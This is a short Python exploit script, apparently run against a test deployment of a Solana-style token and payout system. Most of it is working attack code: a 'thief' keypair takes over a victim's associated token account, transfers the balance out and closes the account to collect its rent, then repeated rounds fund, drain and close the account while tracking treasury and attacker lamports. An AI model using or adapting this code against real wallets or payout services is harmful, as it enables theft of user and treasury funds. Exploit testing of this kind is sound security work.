from chainlib import *; from db import q
ids=json.load(open('ids.json')); keys=json.load(open('keys.json'))
Ak=ids['att1']; a=kp('att_w')
r=base64.b64decode(rpc('getAccountInfo',str(ata(a.pubkey())),{'encoding':'base64'})['result']['value']['data'][0])
print('ATA owner now',Pubkey(r[32:64]),'wallet',a.pubkey(),'thief2',kp('thief2').pubkey(), 'bal', bal(a.pubkey()))
# thief2 empties it and closes: rent drain
t2=kp('thief2'); sink=kp('sink'); drop(t2.pubkey()); drop(sink.pubkey()); time.sleep(1)
T=Pubkey.from_string(C['T'])
def lam(p): return rpc('getBalance',str(p))['result']['value']
print('steal',send([transfer(ata(a.pubkey()),ata(kp('vic_w').pubkey()),t2.pubkey(),int(bal(a.pubkey())))],t2)); time.sleep(1)
print('thief moved; bal',bal(a.pubkey()))
# give ATA back? close it as thief2
l0=lam(t2.pubkey()); print(send([closeacc(ata(a.pubkey()),t2.pubkey(),t2.pubkey())],t2)); time.sleep(1); print('closed: gain',lam(t2.pubkey())-l0)
for i in range(3):
    t0=lam(T); fund(Ak,1)
    for _ in range(15):
        time.sleep(1)
        if str(bal(a.pubkey())).isdigit() and int(bal(a.pubkey()))>0: break
    b=bal(a.pubkey()); l0=lam(a.pubkey())
    send([transfer(ata(a.pubkey()),ata(kp('vic_w').pubkey()),a.pubkey(),int(b)),closeacc(ata(a.pubkey()),a.pubkey(),a.pubkey())],a) if str(b).isdigit() else None
    time.sleep(1); print('round',i,'paid',b,'treasury lamports',lam(T)-t0,'attacker lamports',lam(a.pubkey())-l0)
print(pixr('payouts','show','--json')[1][:600]); print(q('owner','select * from ledger.holds'))
